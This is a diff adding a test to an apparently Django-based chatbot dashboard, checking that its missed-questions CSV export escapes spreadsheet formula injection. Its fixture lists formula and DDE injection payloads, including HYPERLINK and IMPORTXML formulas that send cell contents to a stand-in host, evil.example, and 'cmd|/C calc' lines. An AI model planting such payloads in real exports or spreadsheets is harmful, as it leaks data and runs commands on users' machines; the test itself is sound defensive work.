@@ -136,3 +136,36 @@ def test_create_faq_from_a_gap_end_to_end(
     faq = FAQ.objects.get(site=known_data.shop)
     assert len(faq.phrasings()) == 3
     assert all("voucher" in text.lower() for text in faq.phrasings())
+
+
+def test_gaps_csv_never_exports_customer_text_as_a_spreadsheet_formula(
+    client: Client, superuser: User, known_data: KnownData
+) -> None:
+    # given: missed questions and a model answer that a spreadsheet would run as formulas
+    conv = known_data.shop.conversations.first()
+    attacks = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1 where is my parcel",
+        "\r=1+1 what about my voucher",
+    ]
+    for text in attacks:
+        answer(question(conv, text, DAY2), "llm", ttft_ms=100, total_ms=900, sla_met=True,
+               text="=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")")  # fmt: skip
+    client.force_login(superuser)
+    # when
+    exported = client.get("/dashboard/gaps.csv", {**RANGE, "site": known_data.shop.pk})
+    rows = list(csv.reader(io.StringIO(exported.content.decode())))
+    # then: no text cell starts a formula; the texts are kept whole behind a quote; counts
+    # stay numbers
+    assert exported.status_code == 200
+    quoted_attacks = {f"'{text}" for text in attacks}
+    for row in rows[1:]:
+        assert row[1].isdigit()
+        for cell in (row[0], row[2], row[3], row[4]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    attack_questions = [row[2] for row in rows[1:] if row[2].startswith("'")]
+    assert attack_questions and set(attack_questions) <= quoted_attacks
+    assert any(row[4].startswith("'=IMPORTXML(") for row in rows[1:])
